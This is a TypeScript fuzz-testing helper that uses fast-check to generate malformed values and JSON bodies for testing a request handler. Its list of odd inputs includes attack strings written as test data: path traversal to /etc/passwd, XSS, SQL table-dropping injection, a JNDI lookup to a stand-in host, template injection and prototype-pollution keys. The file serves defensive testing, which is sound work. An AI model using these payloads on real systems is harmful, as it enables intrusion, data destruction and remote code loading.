import fc from 'fast-check';

const DEEP = 4000;
/** Keys that a careless program takes for something of its own. */
const PROTOTYPE_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'length', ''];

/** Texts that have broken programs: long, invisible, reordering, half a character, commands for a terminal or a shell. */
export const ODD_TEXTS: readonly string[] = [
  '',
  ' ',
  'x'.repeat(20_000),
  '\u0000',
  '\ud800',
  '\u202egnp.exe',
  '\u001b]0;title\u0007\u001b[2J',
  '𝒳𝒴𝒵'.repeat(300),
  'ﷺ'.repeat(300),
  '../../../../etc/passwd',
  '..\\..\\windows',
  '%2e%2e%2f',
  '<script>alert(1)</script>',
  "'; DROP TABLE requests; --",
  '${jndi:ldap://rebound.example/x}',
  '{{7*7}}',
  '=HYPERLINK("x")',
  ...PROTOTYPE_KEYS,
];

const oddValue = (): fc.Arbitrary<unknown> =>
  fc.oneof(
    fc.constantFrom(...ODD_TEXTS),
    fc.constantFrom(null, true, false, 0, -1, 1.5, 2 ** 53, -0, 1e308, [], {}, [null], [[]], { a: { b: {} } }),
    fc.constant(nested(DEEP)),
    fc.string({ unit: 'binary', maxLength: 300 }),
    fc.array(fc.integer(), { minLength: 500, maxLength: 500 }),
  );

/** The value with something in it replaced, left out or added, anywhere. */
export function brokenValue(value: unknown): fc.Arbitrary<unknown> {
  const places = placesIn(value);
  return fc.constantFrom(...places).chain((place) =>
    fc.oneof(
      oddValue().map((odd) => replaced(value, place, () => odd)),
      fc.constant(replaced(value, place, () => undefined)),
      fc
        .tuple(fc.oneof(fc.constantFrom(...PROTOTYPE_KEYS), fc.string()), oddValue())
        .map(([key, odd]) => replaced(value, place, (old) => withKey(old, key, odd))),
      fc.constant(replaced(value, place, (old) => [old, old])),
    ),
  );
}

type Place = readonly string[];

function placesIn(value: unknown, at: Place = []): readonly Place[] {
  if (typeof value !== 'object' || value === null) return [at];
  return [at, ...Object.entries(value).flatMap(([key, each]) => placesIn(each, [...at, key]))];
}

function replaced(value: unknown, [key, ...rest]: Place, change: (old: unknown) => unknown): unknown {
  if (key === undefined) return change(value);
  if (Array.isArray(value)) return value.map((each, i) => (String(i) === key ? replaced(each, rest, change) : each));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([name, each]) => [name, name === key ? replaced(each, rest, change) : each]),
  );
}

/** Also where the key is one that an assignment would take for the prototype. */
function withKey(value: unknown, key: string, added: unknown): unknown {
  if (typeof value !== 'object' || value === null || Array.isArray(value)) return { [key]: added };
  return Object.defineProperty({ ...value }, key, { value: added, enumerable: true, configurable: true });
}

function nested(depth: number): unknown {
  let value: unknown = 1;
  for (let i = 0; i < depth; i += 1) value = i % 2 === 0 ? [value] : { a: value };
  return value;
}

/** Bodies that are no JSON, or JSON such as no program writes. */
export const ODD_BODIES: readonly (string | Buffer)[] = [
  '',
  '{',
  'null',
  'true',
  '"text"',
  '1e400',
  'NaN',
  '{"a":01}',
  '\ufeff{}',
  '{"certifiedAccurate":true,"certifiedAccurate":false}',
  '{"__proto__":{"capacity":"employer"}}',
  `${'['.repeat(30_000)}${']'.repeat(30_000)}`,
  `${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`,
  `{"worker":${'['.repeat(30_000)}${']'.repeat(30_000)},"period":1,"ssin":[[[[]]]]}`,
  `{${Array.from({ length: 6000 }, (_, i) => `"k${String(i)}":1`).join(',')}}`,
  Buffer.from([0x22, 0xff, 0xfe, 0x22]),
  Buffer.from('{"comment":"\u00e9"}', 'latin1'),
  Buffer.from('{"a":1}', 'utf16le'),
];
